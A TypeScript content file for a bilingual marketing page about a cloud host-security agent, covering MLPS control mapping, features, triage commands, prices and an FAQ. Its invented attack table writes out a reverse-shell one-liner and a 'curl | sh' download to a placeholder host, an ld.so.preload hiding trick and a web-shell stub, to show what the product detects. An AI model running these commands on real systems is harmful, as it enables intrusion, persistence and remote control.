import { hosteyeUsdPerMonth } from "@zhian/contracts/demo-prices";
import { demoSla } from "@zhian/contracts/demo-sla";
import type { CtaBlock, FaqBlock, Figure } from "@zhian/page/content";
import type {
  ComparisonBlock,
  FeaturesBlock,
  PageContent,
  PricesBlock,
  RelatedBlock,
  TerminalBlock,
} from "../../model/page-content.ts";
import type { AttacksBlock, CoverageBlock } from "../../model/security-content.ts";
import { demoPriceNote, demoPrices } from "../notes.ts";

const coverage: CoverageBlock = {
  is: "coverage",
  anchor: "coverage",
  nav: { en: "MLPS", zh: "等保对照" },
  heading: { en: "The half of a technical assessment that happens on the host", zh: "技术测评有一半发生在主机上" },
  lead: {
    en: "Classified Protection (MLPS, 等保) examines servers one by one. Here is what the agent answers, and what an administrator still has to do by hand.",
    zh: "等保测评会逐台看服务器。下面写明哪些由 Agent 完成，哪些仍要管理员动手。",
  },
  caption: {
    en: "Table 1. Controls of GB/T 22239-2019 on the computing environment",
    zh: "表 1　GB/T 22239-2019 安全计算环境等相关控制点",
  },
  controls: [
    {
      name: { en: "Malicious code", zh: "恶意代码防范" },
      inChinese: "恶意代码防范",
      level2: "7.1.4.5",
      level3: "8.1.4.5",
      does: {
        en: "Scans files as they are written and programs as they start; quarantines what it knows. Signatures are renewed every day.",
        zh: "文件写入、程序启动时即时检测，已知恶意代码自动隔离，特征库每日更新。",
      },
      remains: {
        en: "A procedure for media and files from outside, and somebody who reads the findings.",
        zh: "外来文件与介质的管理制度，以及有人查看告警。",
      },
    },
    {
      name: { en: "Intrusions noticed", zh: "入侵防范：入侵检测" },
      inChinese: "入侵防范",
      level3: "8.1.4.4 f",
      does: {
        en: "Reports reverse shells, privilege gained without a reason, new persistence and altered system files, and alarms for serious ones.",
        zh: "检测反弹 Shell、异常提权、新增自启动项、系统文件被改，严重事件告警。",
      },
      remains: { en: "A person on call who decides.", zh: "安排值班人员研判处置。" },
    },
    {
      name: { en: "Known vulnerabilities", zh: "入侵防范：已知漏洞" },
      inChinese: "入侵防范",
      level2: "7.1.4.4 e",
      level3: "8.1.4.4 e",
      does: {
        en: "Lists packages with published holes, with the version that closes each one.",
        zh: "列出存在已公开漏洞的软件包，并给出修复版本。",
      },
      remains: {
        en: "Testing the update and installing it: the clause asks for both.",
        zh: "测试评估并安装补丁，条款对两者都有要求。",
      },
    },
    {
      name: { en: "Only what is needed", zh: "入侵防范：最小安装与端口" },
      inChinese: "入侵防范",
      level2: "7.1.4.4 a, b",
      level3: "8.1.4.4 a, b",
      does: {
        en: "Shows installed components, running services, default shares and listening ports on every machine.",
        zh: "列出每台主机的已装组件、运行服务、默认共享与监听端口。",
      },
      remains: { en: "Removing what nobody can explain.", zh: "说不清用途的，卸载或关闭。" },
    },
    {
      name: { en: "Identity", zh: "身份鉴别" },
      inChinese: "身份鉴别",
      level2: "7.1.4.1 a, b",
      level3: "8.1.4.1 a, b",
      does: {
        en: "Finds weak and empty passwords, checks complexity, expiry and lockout settings, and blocks sources that guess.",
        zh: "发现弱口令与空口令，核查复杂度、有效期与锁定策略，封禁爆破来源。",
      },
      remains: {
        en: "A second factor (8.1.4.1 d): the bastion has it, the agent does not.",
        zh: "双因素（8.1.4.1 d）由堡垒机提供，Agent 不含。",
      },
    },
    {
      name: { en: "Accounts", zh: "访问控制：账户" },
      inChinese: "访问控制",
      level2: "7.1.4.2 b, c",
      level3: "8.1.4.2 b, c",
      does: {
        en: "Points out default names, expired and unused accounts, second accounts with user id 0, and new keys.",
        zh: "指出默认账户、过期与闲置账户、多余的 UID 0 账户和新增密钥。",
      },
      remains: { en: "Renaming or deleting them, and ending shared use.", zh: "改名、删除，并停用共享账户。" },
    },
    {
      name: { en: "Attacks from inside", zh: "区域边界：内部发起的攻击" },
      inChinese: "入侵防范",
      level3: "8.1.3.3 b",
      does: {
        en: "Sees a host that begins to scan or guess passwords on its neighbours, and can cut it off.",
        zh: "发现主机对邻居扫描、爆破，并可将其隔离。",
      },
      remains: {
        en: "Security groups between your subnets, so that it gets nowhere.",
        zh: "子网间配置安全组，让它无路可走。",
      },
    },
    {
      name: { en: "Central management", zh: "管理中心：集中管控" },
      inChinese: "集中管控",
      level3: "8.1.5.4 e, f",
      does: {
        en: "One place for malware policy, patch state and security events of all hosts.",
        zh: "恶意代码策略、补丁状态、安全事件在一处统一管理。",
      },
      remains: { en: "The same for network devices and databases.", zh: "网络设备与数据库也要纳入。" },
    },
  ],
  note: {
    en: "An aid to planning; whether a clause is met is for the assessor to say. Wording in the standard goes first.",
    zh: "供整改规划使用，是否符合由测评机构认定。条款文字以标准为准。",
  },
  source: { label: { en: "Text of the standard", zh: "标准原文" }, url: "https://openstd.samr.gov.cn/" },
};

const attacks: AttacksBlock = {
  is: "attacks",
  anchor: "attacks",
  nav: { en: "On the host", zh: "主机攻防" },
  heading: { en: "Seven things an intruder does once he is in", zh: "入侵者进来后会做的七件事" },
  caption: {
    en: "Table 2. What is done on the host, what comes of it, and what the agent makes of it",
    zh: "表 2　主机上的动作、后果与 Agent 的处置",
  },
  items: [
    {
      id: "guess",
      name: { en: "Guessing a password", zh: "暴力破解" },
      request: {
        en: "sshd: Failed password × 3,140, then Accepted password for deploy",
        zh: "sshd：Failed password × 3,140，随后 deploy 登录成功",
      },
      without: {
        en: "The 3,141st try is a login like any other. It is found months later, if the log still exists.",
        zh: "第 3,141 次就是一次普通登录，几个月后才被发现，前提是日志还在。",
      },
      with: {
        en: "After five failures in a minute the source is shut out for an hour, on all hosts of the group.",
        zh: "一分钟失败五次，来源在同组所有主机上封禁一小时。",
      },
      log: [
        "time=2026-11-21T03:12:44+08:00",
        "event=bruteforce",
        "host=web-02",
        "service=sshd",
        "failed=5/60s",
        "src=198.51.100.23",
        "action=block-source",
        "ttl=3600s",
        "group=shop",
      ],
    },
    {
      id: "shell-file",
      name: { en: "Leaving a web shell", zh: "植入 WebShell" },
      request: "write /srv/shop/upload/logo.php: eval(gzinflate(base64_decode(…)))",
      without: {
        en: "A page that answers to one person only, for as long as he likes.",
        zh: "一个只听他一个人话的页面，想用多久用多久。",
      },
      with: {
        en: "Read as code, unpacked, recognised: moved to quarantine within two seconds, with the process that wrote it.",
        zh: "按代码解析、还原混淆后判定，两秒内隔离，并记录写入它的进程。",
      },
      log: [
        "time=2026-11-21T03:40:02+08:00",
        "event=webshell",
        "host=web-02",
        "path=/srv/shop/upload/logo.php",
        "by=php-fpm[2231]",
        "sha256=9f3c…e1",
        "layers=2",
        "action=quarantine",
      ],
    },
    {
      id: "reverse",
      name: { en: "Calling home", zh: "反弹 Shell" },
      request: "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
      without: {
        en: "An outgoing connection: no firewall that looks at incoming ones minds.",
        zh: "这是一条向外的连接，只管入方向的防火墙看不见。",
      },
      with: {
        en: "A shell whose input is a socket and whose parent is a web server: ended, if you allowed that; reported in any case.",
        zh: "输入是套接字、父进程是 Web 服务的 Shell：已授权则结束进程，否则告警。",
      },
      log: [
        "time=2026-11-21T03:41:19+08:00",
        "event=reverse-shell",
        "host=web-02",
        "chain=php-fpm>sh>bash[2290]",
        "uid=33",
        "remote=198.51.100.9:4444",
        "action=kill",
        "policy=shop-strict",
      ],
    },
    {
      id: "root",
      name: { en: "Becoming root", zh: "本地提权" },
      request: {
        en: "pkexec with an empty argument list (CVE-2021-4034)",
        zh: "pkexec 以空参数表启动（CVE-2021-4034）",
      },
      without: {
        en: "From the web server's account to every file of the machine.",
        zh: "从 Web 账户变成整台机器的主人。",
      },
      with: {
        en: "User id 33 turns into 0 without passing sudo or login. Reported as critical; the package had been on the list to update.",
        zh: "UID 33 未经 sudo 或登录变成 0，按严重级别告警；该软件包此前已在待更新清单上。",
      },
      log: [
        "time=2026-11-21T03:44:50+08:00",
        "event=privilege-gain",
        "host=web-02",
        "uid=33>0",
        "exe=/usr/bin/pkexec",
        "chain=bash[2290]>pkexec[2304]",
        "cve=CVE-2021-4034",
        "action=report",
        "severity=critical",
      ],
    },
    {
      id: "preload",
      name: { en: "Hiding", zh: "隐藏自身" },
      request: "echo /usr/lib/libdl-2.so > /etc/ld.so.preload",
      without: {
        en: "From now on ps, ls and ss leave out whatever he wants.",
        zh: "此后 ps、ls、ss 都会漏掉他想藏的东西。",
      },
      with: {
        en: "The file is on the integrity list. The agent reads processes from the kernel, so the hidden one is still shown.",
        zh: "该文件在完整性清单里；Agent 从内核读取进程，藏起来的照样显示。",
      },
      log: [
        "time=2026-11-21T03:46:07+08:00",
        "event=integrity",
        "host=web-02",
        "path=/etc/ld.so.preload",
        "change=created",
        "by=bash[2311]",
        "uid=0",
        "action=report",
        "severity=high",
      ],
    },
    {
      id: "miner",
      name: { en: "Mining", zh: "挖矿" },
      request: {
        en: "curl -s http://198.51.100.9/x.sh | sh, and a line in root's crontab",
        zh: "curl -s http://198.51.100.9/x.sh | sh，并写入 root 的 crontab",
      },
      without: {
        en: "The server is slow, the bill grows; killing the process helps until the next full minute.",
        zh: "服务器变慢、费用上涨，杀掉进程，下一分钟又起来。",
      },
      with: {
        en: "Program, pool address and cron entry are one finding and are cleared together.",
        zh: "程序、矿池连接、计划任务归为一条，一并清除。",
      },
      log: [
        "time=2026-11-21T03:52:31+08:00",
        "event=miner",
        "host=web-02",
        "exe=/tmp/.x/kswapd1",
        "remote=192.0.2.200:3333",
        "persist=cron:root",
        "action=kill+quarantine",
        "cleared=3",
      ],
    },
    {
      id: "ransom",
      name: { en: "Encrypting", zh: "勒索加密" },
      request: { en: "one process rewrites 600 documents in ten seconds", zh: "一个进程十秒内改写 600 份文档" },
      without: {
        en: "In the morning there is a text file with an address for payment.",
        zh: "早上只剩一个写着付款地址的文本文件。",
      },
      with: {
        en: "A decoy file is touched among the first; the process is frozen. Files before the decoy are lost: restore these from backup.",
        zh: "诱饵文件最先被碰到，进程随即冻结；在它之前已加密的需从备份恢复。",
      },
      log: [
        "time=2026-11-21T04:20:15+08:00",
        "event=ransomware",
        "host=file-01",
        "decoy=/data/share/~00index.docx",
        "rate=61/s",
        "exe=C:\\Users\\Public\\svc.exe",
        "action=suspend",
        "lost=38",
      ],
    },
  ],
  note: {
    en: "One invented night on two invented machines. Stopping a process is off until you switch it on, group by group.",
    zh: "情节与主机均为虚构。结束进程默认关闭，由你按主机组开启。",
  },
};

const features: FeaturesBlock = {
  is: "features",
  anchor: "features",
  nav: { en: "The agent", zh: "Agent" },
  heading: { en: "What you let onto your servers", zh: "你放进服务器的到底是什么" },
  lead: {
    en: "A security agent runs as root. You should know what it takes, what it reads and how it is stopped.",
    zh: "安全 Agent 以 root 运行。它占多少、读什么、怎么停，你应当心里有数。",
  },
  items: [
    {
      title: { en: "It stays small, or steps back", zh: "占得少，忙时让路" },
      text: { en: "Your program has the first claim on the machine.", zh: "机器首先是给业务用的。" },
      mechanism: {
        en: "A cgroup holds the agent to 10 % of one core and 200 MiB (demo). At the ceiling, scans pause and only process events go on.",
        zh: "用 cgroup 限制为单核 10%、内存 200 MiB（演示），触顶时暂停扫描，只保留进程事件。",
      },
      limit: {
        en: "A full scan on a busy machine takes days then. The console says since when it has been paused.",
        zh: "繁忙主机的全盘扫描可能要几天，控制台会标明从何时暂停。",
      },
    },
    {
      title: { en: "It watches behaviour, not just names", zh: "看行为，不只看特征" },
      text: {
        en: "A tool that was compiled this morning has no signature yet, but it behaves like the old one.",
        zh: "今早刚编译的木马没有特征，行为却和老的一样。",
      },
      mechanism: {
        en: "Starts, connections and changes of identity come from eBPF on kernels 4.18 and later, from the audit subsystem before, from ETW on Windows; rules look at the chain of parents.",
        zh: "4.18 及以上内核用 eBPF，更早用 audit，Windows 用 ETW 采集进程、连接、身份变化，规则判断整条父子链。",
      },
      limit: {
        en: "A kernel exploit that takes over the kernel itself can blind it. The missing heartbeat is then the alarm.",
        zh: "攻陷内核的漏洞可能让它失明，此时心跳中断就是告警。",
      },
    },
    {
      title: { en: "Fewer false vulnerabilities", zh: "漏洞误报更少" },
      text: {
        en: "A list of four hundred findings that are mended already helps nobody.",
        zh: "四百条其实已修复的“漏洞”，对谁都没用。",
      },
      mechanism: {
        en: "Package versions are compared with the distribution's own advisories, so that a fix that was carried back into an old version counts as fixed.",
        zh: "按发行版自己的安全公告比对，回移到旧版本号里的修复也算已修复。",
      },
      limit: {
        en: "Software that you compiled or unpacked yourself is recognised for about 120 well-known programs (demo), otherwise not.",
        zh: "自行编译或解压的软件只识别约 120 种常见程序（演示）。",
      },
    },
    {
      title: { en: "It shows how to mend it", zh: "给出改法，不替你改" },
      text: {
        en: "Baseline findings come with the line of configuration that is meant.",
        zh: "基线问题直接指到那一行配置。",
      },
      mechanism: {
        en: "Checks for accounts, SSH, services, permissions and databases, in versions for level 2 and 3, each with the present value, the wanted value and the command.",
        zh: "账户、SSH、服务、权限、数据库等检查项分二级、三级两套，列出现值、应有值与命令。",
      },
      limit: {
        en: "It changes nothing by itself: a wrong umask costs you an hour, a wrong PAM file the login.",
        zh: "不自动修改：umask 改错耽误一小时，PAM 改错就登不进去了。",
      },
    },
    {
      title: { en: "One click cuts a host off, one more joins it again", zh: "一键隔离，可随时恢复" },
      text: {
        en: "A suspect machine can be kept for examination without being switched off.",
        zh: "可疑主机不必关机，也能留着取证。",
      },
      mechanism: {
        en: "Local packet rules allow nothing but the agent's own channel; memory and disks stay as they were.",
        zh: "本机包过滤规则只留 Agent 通道，内存与磁盘保持原样。",
      },
      limit: {
        en: "Somebody with root on the host can remove the rules; for certainty close the security group as well.",
        zh: "拿到 root 的人可以删规则，稳妥起见同时收紧安全组。",
      },
    },
  ],
};

const byHand: TerminalBlock = {
  is: "terminal",
  anchor: "by-hand",
  nav: { en: "Second look", zh: "人工复核" },
  heading: { en: "When an alert comes: five looks before you touch anything", zh: "收到告警，先看五眼再动手" },
  lead: {
    en: "Do not restart the machine: memory holds what the disk does not. 2290 stands for the process in the alert.",
    zh: "不要重启，内存里有磁盘上没有的证据。2290 代表告警中的进程号。",
  },
  steps: [
    {
      explanation: { en: "Whom is it talking to?", zh: "它在和谁通信" },
      command: "ss -tnp state established | grep 'pid=2290,'",
    },
    {
      explanation: {
        en: "What was really started, even if the file is deleted?",
        zh: "实际执行的是什么（文件被删也能看到）",
      },
      command: "ls -l /proc/2290/exe /proc/2290/cwd\ntr '\\0' ' ' < /proc/2290/cmdline; echo",
    },
    {
      explanation: { en: "Keep a copy of the program before it disappears", zh: "趁它还在，留一份样本" },
      command: "cp /proc/2290/exe /root/case-2290.bin && sha256sum /root/case-2290.bin",
    },
    {
      explanation: { en: "How would it come back?", zh: "它靠什么自启动" },
      command:
        "crontab -l -u www-data\nsystemctl list-timers --all\nfind /etc/systemd/system /etc/cron.d -mtime -3 -ls",
    },
    {
      explanation: { en: "Which files differ from their package?", zh: "哪些系统文件与软件包不一致" },
      command: "rpm -Va | grep '^..5'   # Debian, Ubuntu: dpkg --verify",
    },
  ],
};

const comparison: ComparisonBlock = {
  is: "comparison",
  anchor: "comparison",
  heading: { en: "Three products that are taken for one another", zh: "三个容易混淆的产品" },
  caption: { en: "Host security beside its neighbours", zh: "主机安全与相邻产品对照" },
  subjects: ["hosteye", "epim", "vss"],
  rows: [
    {
      criterion: { en: "Where it stands", zh: "部署在哪" },
      values: [
        { en: "On each server", zh: "每台服务器上" },
        { en: "On office computers", zh: "办公电脑上" },
        { en: "Outside; it knocks", zh: "外部，远程探测" },
      ],
    },
    {
      criterion: { en: "Sees an intrusion in progress", zh: "能否看到正在发生的入侵" },
      values: [
        { en: "Yes", zh: "能" },
        { en: "Malware, mostly", zh: "主要是病毒" },
        { en: "No", zh: "不能" },
      ],
    },
    {
      criterion: { en: "Needs an installation", zh: "需要安装" },
      values: [
        { en: "Agent, as root", zh: "Agent，root 权限" },
        { en: "Agent, by group policy", zh: "客户端，域策略下发" },
        { en: "Nothing; a read-only login helps", zh: "不需要，有只读账号更准" },
      ],
    },
    {
      criterion: { en: "Controls USB sticks and software", zh: "管 U 盘和软件" },
      values: [
        { en: "No", zh: "不管" },
        { en: "Yes", zh: "管" },
        { en: "No", zh: "不管" },
      ],
    },
  ],
  chooseWhen: [
    { en: "the machine serves others and nobody sits in front of it.", zh: "机器对外提供服务，面前没有人坐着。" },
    { en: "somebody works at it, plugs things in and opens mail.", zh: "有人用它办公、插设备、收邮件。" },
    {
      en: "nothing may be installed, or you want to see it as an attacker would.",
      zh: "不允许装软件，或想从攻击者的角度看一遍。",
    },
  ],
};

const prices: PricesBlock = {
  is: "prices",
  anchor: "prices",
  nav: { en: "Prices", zh: "价格" },
  heading: { en: "Per host, counted on the day", zh: "按主机数，按日计" },
  lead: {
    en: "A host counts on days on which its agent reported. Containers are covered by the agent of their node.",
    zh: "当天有心跳才计一台；容器由所在节点的 Agent 覆盖，不另计。",
  },
  demo: demoPrices,
  lines: [
    {
      id: "basic",
      name: { en: "Basic, one host", zh: "基础版，每台" },
      for: {
        en: "Inventory, login alarms and blocking of guessers; no malware scan",
        zh: "资产清点、登录告警、防爆破，不含查杀",
      },
      usd: hosteyeUsdPerMonth.basic,
      unit: "month",
    },
    {
      id: "professional",
      name: { en: "Professional, one host", zh: "专业版，每台" },
      for: {
        en: "Malware, web shells, vulnerabilities and baselines: systems of level 2",
        zh: "病毒、WebShell、漏洞、基线，适合二级系统",
      },
      usd: hosteyeUsdPerMonth.professional,
      unit: "month",
      slaPercent: demoSla.hosteye,
    },
    {
      id: "enterprise",
      name: { en: "Enterprise, one host", zh: "企业版，每台" },
      for: {
        en: "Behaviour, integrity, decoys, isolation, containers: systems of level 3",
        zh: "行为检测、完整性、诱饵、隔离、容器，适合三级系统",
      },
      usd: hosteyeUsdPerMonth.enterprise,
      unit: "month",
      slaPercent: demoSla.hosteye,
    },
  ],
  note: demoPriceNote,
};

const figure: Figure = {
  caption: {
    en: "Figure 1. An intruder who came past the firewall with a stolen password, and who sees him.",
    zh: "图 1　用偷来的密码绕过了防火墙，但在主机上被看见。",
  },
  nodes: [
    { id: "intruder", label: { en: "Intruder", zh: "入侵者" }, column: 2, row: 0, kind: "outside" },
    {
      id: "waf",
      label: { en: "Web firewall", zh: "应用防火墙" },
      note: { en: "sees no attack", zh: "看起来正常" },
      product: "waf",
      column: 1,
      row: 0,
      kind: "security",
    },
    {
      id: "web",
      label: { en: "web-02", zh: "web-02" },
      note: { en: "agent inside", zh: "装有 Agent" },
      product: "bcc",
      column: 1,
      row: 1,
      kind: "compute",
    },
    {
      id: "home",
      label: { en: "His server", zh: "控制端" },
      note: { en: "198.51.100.9", zh: "198.51.100.9" },
      column: 2,
      row: 1,
      kind: "outside",
    },
    {
      id: "file",
      label: { en: "file-01", zh: "file-01" },
      note: { en: "agent inside", zh: "装有 Agent" },
      product: "bcc",
      column: 2,
      row: 2,
      kind: "compute",
    },
    {
      id: "hosteye",
      label: { en: "HostEye", zh: "主机安全" },
      note: { en: "judges events", zh: "研判与下发" },
      product: "hosteye",
      column: 0,
      row: 1,
      kind: "security",
    },
    {
      id: "las",
      label: { en: "Log Audit", zh: "日志审计" },
      note: { en: "LAS", zh: "LAS" },
      product: "las",
      column: 0,
      row: 2,
      kind: "security",
    },
    {
      id: "mss",
      label: { en: "Analyst", zh: "值守专家" },
      note: { en: "MSS", zh: "MSS" },
      product: "mss",
      column: 0,
      row: 0,
      kind: "security",
    },
  ],
  edges: [
    {
      from: "intruder",
      to: "waf",
      isAttack: true,
      label: { en: "A stolen password is used", zh: "使用偷来的密码登录" },
    },
    {
      from: "waf",
      to: "web",
      isAttack: true,
      label: { en: "It looks like any login and passes", zh: "看起来是普通登录，放行" },
    },
    {
      from: "web",
      to: "home",
      isAttack: true,
      label: { en: "A shell calls his server and is ended", zh: "反弹 Shell 外连，被结束" },
    },
    {
      from: "web",
      to: "file",
      isAttack: true,
      label: { en: "He tries the file server next", zh: "随后试探文件服务器" },
    },
    { from: "web", to: "hosteye", label: { en: "The agent reports the chain of processes", zh: "Agent 上报进程链" } },
    { from: "hosteye", to: "mss", label: { en: "Critical events reach a person", zh: "严重事件通知到人" } },
    { from: "hosteye", to: "las", label: { en: "Every event is kept off the hosts", zh: "事件存放在主机之外" } },
  ],
};

const questions: FaqBlock = {
  is: "faq",
  anchor: "faq",
  nav: { en: "FAQ", zh: "常见问题" },
  heading: { en: "Questions from the people who run the servers", zh: "运维同事会问的" },
  items: [
    {
      question: { en: "Which systems does it run on?", zh: "支持哪些系统？" },
      answer: {
        en: "Linux with glibc 2.12 or later on x86-64 and Arm, Windows Server 2012 R2 and later (demo). Machines elsewhere too: it needs one outgoing connection on port 443.",
        zh: "glibc 2.12 及以上的 Linux（x86-64、Arm），Windows Server 2012 R2 及以上（演示）。其他机房的机器也能装，只需放行一条 443 出方向连接。",
      },
    },
    {
      question: { en: "Can it break my server?", zh: "会不会把服务器搞崩？" },
      answer: {
        en: "It loads no kernel module. New versions go to the group that you name first, the others follow two days later, and you can hold a version.",
        zh: "不加载内核模块。新版本先发到你指定的分组，两天后再推其余，也可锁定版本。",
      },
    },
    {
      question: { en: "What leaves the machine?", zh: "哪些数据会离开主机？" },
      answer: {
        en: "Names, hashes, command lines, addresses, and a suspect file if you allow samples. Never database contents. Passwords in command lines are masked by pattern, which does not catch every style.",
        zh: "文件名、散列、命令行、地址；允许上传样本时才传可疑文件，不读取数据库内容。命令行里的密码按规则脱敏，但不能保证识别所有写法。",
      },
    },
    {
      question: { en: "Do we still need antivirus?", zh: "还要另装杀毒软件吗？" },
      answer: {
        en: "On servers, no: two scanners slow each other down, and level 2 and 3 ask for the function, not for a second brand. Office computers get their own product.",
        zh: "服务器上不用，两套查杀只会互相拖慢；等保要求的是功能，不是品牌数量。办公电脑请用终端安全。",
      },
    },
    {
      question: { en: "What if nobody looks at night?", zh: "晚上没人看怎么办？" },
      answer: {
        en: "Then automatic actions are all you have until morning. Either switch them on for the cases you trust, or have our analysts watch.",
        zh: "那天亮前只能靠自动处置。要么对有把握的类型开启自动处置，要么交给安全托管值守。",
      },
    },
    {
      question: { en: "Is one unprotected test server a problem?", zh: "漏装一台测试机要紧吗？" },
      answer: {
        en: "That is where it usually begins. The inventory lists neighbours that answer in your subnet and have no agent.",
        zh: "入侵往往就从那台开始。资产清点会列出同网段有应答却没装 Agent 的机器。",
      },
    },
  ],
};

const related: RelatedBlock = {
  is: "related",
  anchor: "related",
  heading: { en: "Who works with the agent", zh: "和它配合的" },
  items: [
    {
      product: "waf",
      relation: { en: "Stops at the door what would otherwise be found inside", zh: "在门口拦下，省得进来再抓" },
    },
    {
      product: "cag",
      relation: { en: "Adds the second factor and the recording of administrators", zh: "补上双因素与运维录像" },
    },
    {
      product: "las",
      relation: {
        en: "Keeps events where root on the host cannot delete them",
        zh: "把事件存到主机 root 删不掉的地方",
      },
    },
    { product: "srs", relation: { en: "Carries out what the baseline found", zh: "按基线结果动手加固" } },
    { product: "ers", relation: { en: "Comes when an alert was real", zh: "告警坐实后到场处置" } },
  ],
  solutions: ["dengbao-solution", "medical", "edu-security"],
};

const callToAction: CtaBlock = {
  is: "cta",
  anchor: "start",
  heading: { en: "Install it on the machine you trust least", zh: "先装在最不放心的那台上" },
  lead: {
    en: "The free edition shows within an hour which ports are open, who logs in, and which software nobody remembers.",
    zh: "免费的基础版一小时内就能列出开放端口、登录来源和没人记得的软件。",
  },
  actions: [
    { label: { en: "Add hosts", zh: "添加主机" }, to: "console:/hosteye/create" },
    { label: { en: "Let analysts watch", zh: "交给专家值守" }, to: "/products/mss" },
  ],
};

export const content: PageContent = {
  code: "hosteye",
  title: { en: "Host Security (HostEye)", zh: "主机安全 HOSTEYE" },
  lead: {
    en: "An agent on each server finds malware, intrusions, weak settings and missing patches, and tells you which process did what. For anyone with servers that run unattended, in our cloud or elsewhere.",
    zh: "在每台服务器上安装 Agent，发现病毒、入侵、弱配置和缺失的补丁，并说清是哪个进程干的。云上云下、无人值守的服务器都适用。",
  },
  actions: [
    { label: { en: "Compare editions", zh: "看版本与价格" }, to: "#prices" },
    { label: { en: "Open in the console", zh: "进入控制台" }, to: "console:/hosteye" },
  ],
  figure,
  facts: [
    {
      label: { en: "Professional (demo price)", zh: "专业版（演示价格）" },
      value: { is: "price", usd: hosteyeUsdPerMonth.professional, unit: { en: "per host and month", zh: "每台每月" } },
      anchor: "prices",
    },
    {
      label: { en: "Share of one core, at most (demo)", zh: "CPU 上限（演示）" },
      value: { is: "words", words: { en: "10 %", zh: "单核 10%" } },
      anchor: "features",
    },
    {
      label: { en: "Kernel modules", zh: "内核模块" },
      value: { is: "words", words: { en: "None", zh: "不加载" } },
      anchor: "faq",
    },
    {
      label: { en: "SLA of the console (demo)", zh: "控制台 SLA（演示）" },
      value: { is: "percent", percent: demoSla.hosteye },
      anchor: "prices",
    },
  ],
  blocks: [features, attacks, byHand, coverage, prices, comparison, questions, related, callToAction],
  seo: {
    title: { en: "Host Security HostEye: what happens on your servers", zh: "主机安全 HOSTEYE：看清服务器上的每一步" },
    description: {
      en: "Malware, reverse shells, weak passwords and missing patches found on Linux and Windows servers, with limits, MLPS clauses and prices per host.",
      zh: "Linux 与 Windows 主机的病毒查杀、入侵检测、漏洞与基线，写明资源占用、边界、等保条款与每台价格。",
    },
    keywords: {
      en: "host security, HIDS, EDR for servers, malware, baseline, ZhiAn Cloud",
      zh: "主机安全,入侵检测,病毒查杀,基线核查,WebShell,智安云",
    },
  },
  updatedAt: "2026-11-21",
};
